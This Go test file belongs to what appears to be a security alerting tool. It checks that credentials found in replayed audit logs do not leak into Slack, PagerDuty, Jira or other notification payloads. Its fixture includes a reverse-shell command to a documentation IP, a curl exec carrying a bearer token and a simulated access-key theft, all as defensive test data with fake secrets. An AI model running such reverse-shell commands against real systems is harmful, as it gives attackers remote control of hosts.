package test

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/vigia-dev/vigia/internal/alert"
	"github.com/vigia-dev/vigia/internal/corpus"
	"github.com/vigia-dev/vigia/internal/normalize"
	"github.com/vigia-dev/vigia/internal/normalize/detect"
	"github.com/vigia-dev/vigia/internal/notify"
	"github.com/vigia-dev/vigia/internal/notify/file"
	"github.com/vigia-dev/vigia/internal/notify/github"
	"github.com/vigia-dev/vigia/internal/notify/github/githubfake"
	"github.com/vigia-dev/vigia/internal/notify/jira"
	"github.com/vigia-dev/vigia/internal/notify/jira/jirafake"
	"github.com/vigia-dev/vigia/internal/notify/opsgenie"
	"github.com/vigia-dev/vigia/internal/notify/opsgenie/opsgeniefake"
	"github.com/vigia-dev/vigia/internal/notify/pagerduty"
	"github.com/vigia-dev/vigia/internal/notify/pagerduty/pagerdutyfake"
	"github.com/vigia-dev/vigia/internal/notify/servicenow"
	"github.com/vigia-dev/vigia/internal/notify/servicenow/servicenowfake"
	"github.com/vigia-dev/vigia/internal/notify/slack"
	"github.com/vigia-dev/vigia/internal/notify/slack/slackfake"
	"github.com/vigia-dev/vigia/internal/notify/webhook"
	"github.com/vigia-dev/vigia/internal/notify/webhook/webhookfake"
	"github.com/vigia-dev/vigia/internal/pipeline"
	"github.com/vigia-dev/vigia/internal/redact"
	"github.com/vigia-dev/vigia/internal/replay"
	"github.com/vigia-dev/vigia/internal/resolve"
	"github.com/vigia-dev/vigia/internal/rule"
)

// plantedSecrets is a fixture of events carrying credentials in every
// place we know one can hide, so the test below can fail even when the
// public corpus happens to carry few.
const plantedSecrets = `{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"RequestResponse","auditID":"5ec7e700-0000-4000-8000-000000000001","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/payments/secrets","verb":"create","user":{"username":"contractor@example.com"},"sourceIPs":["198.51.100.23"],"userAgent":"kubectl/v1.31.2","objectRef":{"resource":"secrets","namespace":"payments","name":"db-creds","apiVersion":"v1"},"responseStatus":{"code":201},"requestObject":{"kind":"Secret","apiVersion":"v1","metadata":{"name":"db-creds","namespace":"payments"},"data":{"password":"cGxhbnRlZC1rOHMtc2VjcmV0LXZhbHVl"},"stringData":{"token":"planted-k8s-stringdata-value"}},"requestReceivedTimestamp":"2026-11-20T14:00:00.000000Z","stageTimestamp":"2026-11-20T14:00:00.000000Z","annotations":{"authorization.k8s.io/decision":"allow"}}
{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"5ec7e700-0000-4000-8000-000000000002","stage":"ResponseStarted","requestURI":"/api/v1/namespaces/payments/pods/ledger/exec?command=curl&command=-H&command=Authorization%3A+Bearer+planted-bearer-in-exec-command&container=ledger","verb":"create","user":{"username":"contractor@example.com"},"sourceIPs":["198.51.100.23"],"userAgent":"kubectl/v1.31.2","objectRef":{"resource":"pods","subresource":"exec","namespace":"payments","name":"ledger","apiVersion":"v1"},"responseStatus":{"code":101},"requestReceivedTimestamp":"2026-11-20T14:00:01.000000Z","stageTimestamp":"2026-11-20T14:00:01.000000Z","annotations":{"authorization.k8s.io/decision":"allow"}}
{"time":"2026-11-20T14:00:02.000000Z","stream":"stderr","log":"bash -i >& /dev/tcp/203.0.113.66/4444 0>&1 # password=planted-password-in-log Authorization: Bearer planted-bearer-in-log\n","kubernetes":{"pod_name":"ledger","namespace_name":"payments","container_name":"ledger"}}
{"eventVersion":"1.08","userIdentity":{"type":"IAMUser","principalId":"AIDAPLANTED","arn":"arn:aws:iam::111122223333:user/mallory","accountId":"111122223333","accessKeyId":"AKIAPLANTEDKEY000001","userName":"mallory"},"eventTime":"2026-11-20T14:00:03Z","eventSource":"iam.amazonaws.com","eventName":"CreateAccessKey","awsRegion":"us-east-1","sourceIPAddress":"203.0.113.66","userAgent":"aws-cli/2.17","requestParameters":{"userName":"alice"},"responseElements":{"accessKey":{"userName":"alice","accessKeyId":"AKIAPLANTEDKEY000002","status":"Active","secretAccessKey":"planted/aws/secret/access/key/value0000001"}},"requestID":"r1","eventID":"5ec7e700-0000-4000-8000-000000000004","readOnly":false,"eventType":"AwsApiCall","managementEvent":true,"recipientAccountId":"111122223333"}
`

// TestNoSecretLeavesThroughAnyReceiver replays the public sample corpus and
// the planted fixture through every rule and delivers every alert to every
// receiver (each against its API fake, behind a recording proxy), then
// checks that no credential found in the input appears in any outbound
// request body or written line.
func TestNoSecretLeavesThroughAnyReceiver(t *testing.T) {
	secrets := map[string]bool{}
	var records [][]byte
	var files []string
	add := func(data []byte, file string) {
		records = append(records, data)
		files = append(files, file)
		collectSecrets(data, secrets)
	}
	for _, l := range strings.Split(strings.TrimSpace(plantedSecrets), "\n") {
		add([]byte(l), "planted")
	}
	dir := corpusDirOrEmpty(t)
	if dir != "" {
		paths, err := replay.Files([]string{dir})
		if err != nil {
			t.Fatal(err)
		}
		for _, p := range paths {
			if err := replay.Read(p, func(r replay.Record) error {
				if r.Err == nil {
					add(r.Data, r.File)
				}
				return nil
			}); err != nil {
				t.Fatalf("%s: %v", p, err)
			}
		}
	}
	for _, s := range []string{"planted-k8s-stringdata-value", "planted-password-in-log", "planted/aws/secret/access/key/value0000001"} {
		if !secrets[s] {
			t.Fatalf("the secret collector missed the planted %q", s)
		}
	}
	t.Logf("%d records, %d distinct secret values to look for", len(records), len(secrets))

	rules, err := rule.Load([]string{"../detections"}, rule.Options{Root: ".."})
	if err != nil {
		t.Fatal(err)
	}
	proc := &pipeline.Processor{Rules: rules, Resolver: resolve.New(resolve.NewMemory(100000), resolve.Options{})}
	norm, err := detect.New(detect.Auto, normalize.Options{Raw: true})
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	byRule := map[string][]*alert.Alert{}
	for i, r := range records {
		as, _, _ := proc.Process(ctx, norm, r, normalize.Meta{File: files[i]})
		for _, a := range as {
			a.Labels = a.BaseLabels()
			byRule[a.Rule.ID] = append(byRule[a.Rule.ID], a)
		}
	}
	// The planted records alone fire three rules; the corpus adds more.
	if want := map[bool]int{true: 5, false: 3}[dir != ""]; len(byRule) < want {
		t.Fatalf("only %d rules fired: the replay is not exercising the receivers", len(byRule))
	}

	rec := &recorder{}
	receivers := buildReceivers(t, rules, rec)
	ids := make([]string, 0, len(byRule))
	for id := range byRule {
		ids = append(ids, id)
	}
	sort.Strings(ids)
	for _, name := range sortedKeys(receivers) {
		rc := receivers[name]
		for _, id := range ids {
			n := &notify.Notification{ID: "n-" + id, Receiver: name, GroupKey: strings.Repeat("ab", 16), GroupLabels: map[string]string{"rule": id},
				Status: notify.StatusFiring, Alerts: byRule[id], Total: len(byRule[id]), FirstTime: byRule[id][0].Time, LastTime: byRule[id][0].Time}
			st, err := rc.Deliver(ctx, n, nil)
			if err != nil {
				t.Fatalf("%s: %s: %v", name, id, err)
			}
			n.Status, n.Alerts, n.ID = notify.StatusResolved, nil, "r-"+id
			if _, err := rc.Deliver(ctx, n, st); err != nil {
				t.Fatalf("%s: resolve %s: %v", name, id, err)
			}
		}
	}
	out := rec.all()
	if fb, err := os.ReadFile(filepath.Join(rec.dir, "notifications.jsonl")); err == nil {
		out = append(out, fb)
	}
	if len(out) < len(ids)*len(receivers) {
		t.Fatalf("only %d outbound payloads recorded", len(out))
	}
	for _, body := range out {
		for s := range secrets {
			if bytes.Contains(body, []byte(s)) {
				t.Errorf("secret %q leaked in an outbound payload: %.300s", s, body)
			}
		}
	}
}

// collectSecrets adds the credential values of one record: strings under
// secret-named keys, Kubernetes Secret data, Authorization and bearer
// values in free text.
func collectSecrets(data []byte, out map[string]bool) {
	var v any
	if json.Unmarshal(data, &v) != nil {
		v = string(data)
	}
	var walk func(v any, key string, secretData bool)
	walk = func(v any, key string, secretData bool) {
		switch t := v.(type) {
		case map[string]any:
			isSecret := t["kind"] == "Secret"
			for k, x := range t {
				walk(x, k, secretData || (isSecret && (k == "data" || k == "stringData")))
			}
		case []any:
			for _, x := range t {
				walk(x, key, secretData)
			}
		case string:
			if len(t) >= 10 && t != redact.Mask && (secretData || redact.IsSecretKey(key)) && !strings.Contains(t, redact.Mask) {
				out[t] = true
			}
			for _, marker := range []string{"Bearer ", "password="} {
				if i := strings.Index(t, marker); i >= 0 {
					f := strings.FieldsFunc(t[i+len(marker):], func(r rune) bool { return r == ' ' || r == '"' || r == '\n' || r == '&' })
					if len(f) > 0 && len(f[0]) >= 10 {
						out[f[0]] = true
					}
				}
			}
			if u, err := url.QueryUnescape(t); err == nil && u != t {
				walk(u, key, secretData)
			}
		}
	}
	walk(v, "", false)
}

func corpusDirOrEmpty(t *testing.T) string {
	var dir string
	t.Run("corpus", func(t *testing.T) { dir = corpus.Dir(t) })
	return dir
}

// recorder keeps every request body that goes through its proxies.
type recorder struct {
	mu     sync.Mutex
	bodies [][]byte
	dir    string
}

func (r *recorder) proxy(t *testing.T, target string) string {
	u, _ := url.Parse(target)
	rp := httputil.NewSingleHostReverseProxy(u)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		body, _ := io.ReadAll(req.Body)
		r.mu.Lock()
		r.bodies = append(r.bodies, append([]byte(req.URL.String()+"\n"), body...))
		r.mu.Unlock()
		req.Body = io.NopCloser(bytes.NewReader(body))
		rp.ServeHTTP(w, req)
	}))
	t.Cleanup(srv.Close)
	return srv.URL
}

func (r *recorder) all() [][]byte {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([][]byte(nil), r.bodies...)
}

func buildReceivers(t *testing.T, rules *rule.Set, rec *recorder) map[string]notify.Receiver {
	const (
		slackToken = "xoxb-test-token"
		pdKey      = "0123456789abcdef0123456789abcdef"
		ogKey      = "00000000-0000-4000-8000-000000000000"
		hookSecret = "webhook-signing-secret"
	)
	rec.dir = t.TempDir()
	out := map[string]notify.Receiver{}
	sf := slackfake.New(t, slackToken)
	s, err := slack.New(slack.Config{Token: slackToken, Channel: "C0123456789", APIURL: rec.proxy(t, sf.URL()) + "/", ChannelInterval: -1}, rules.Books)
	if err != nil {
		t.Fatal(err)
	}
	out["slack"] = s
	pf := pagerdutyfake.New(t, pdKey)
	p, err := pagerduty.New(pagerduty.Config{RoutingKey: pdKey, URL: rec.proxy(t, pf.URL()), Timeout: 10 * time.Second}, rules.Books)
	if err != nil {
		t.Fatal(err)
	}
	out["pagerduty"] = p
	of := opsgeniefake.New(t, ogKey)
	o, err := opsgenie.New(opsgenie.Config{APIKey: ogKey, APIURL: rec.proxy(t, of.URL()), Timeout: 10 * time.Second}, rules.Books)
	if err != nil {
		t.Fatal(err)
	}
	out["opsgenie"] = o
	wf := webhookfake.New(t, hookSecret)
	w, err := webhook.New(webhook.Config{URL: rec.proxy(t, wf.URL()), Secret: hookSecret, Timeout: 10 * time.Second}, rules.Books)
	if err != nil {
		t.Fatal(err)
	}
	out["webhook"] = w
	t.Setenv("VIGIA_TEST_JIRA_TOKEN", "jira-api-token")
	jf := jirafake.New(t, jirafake.WithBasic("bot@example.com", "jira-api-token"))
	j, err := jira.New(jira.Config{URL: rec.proxy(t, jf.URL()), Email: "bot@example.com", APITokenEnv: "VIGIA_TEST_JIRA_TOKEN", Project: "SEC", ResolveTransition: "Done"}, rules.Books)
	if err != nil {
		t.Fatal(err)
	}
	out["jira"] = j
	t.Setenv("VIGIA_TEST_SNOW_PASSWORD", "snow-password")
	sn := servicenowfake.New(t, servicenowfake.WithBasic("vigia", "snow-password"))
	n, err := servicenow.New(servicenow.Config{URL: rec.proxy(t, sn.URL()), Username: "vigia", PasswordEnv: "VIGIA_TEST_SNOW_PASSWORD"}, rules.Books)
	if err != nil {
		t.Fatal(err)
	}
	out["servicenow"] = n
	t.Setenv("VIGIA_TEST_GITHUB_TOKEN", "ghp_testtoken")
	gf := githubfake.New(t, "ghp_testtoken", "acme", "security-incidents")
	g, err := github.New(github.Config{BaseURL: rec.proxy(t, gf.URL()) + "/", TokenEnv: "VIGIA_TEST_GITHUB_TOKEN", Owner: "acme", Repo: "security-incidents"}, rules.Books)
	if err != nil {
		t.Fatal(err)
	}
	out["github"] = g
	f, err := file.New(file.Config{Path: filepath.Join(rec.dir, "notifications.jsonl")}, rules.Books)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	out["file"] = f
	return out
}

func sortedKeys[V any](m map[string]V) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}
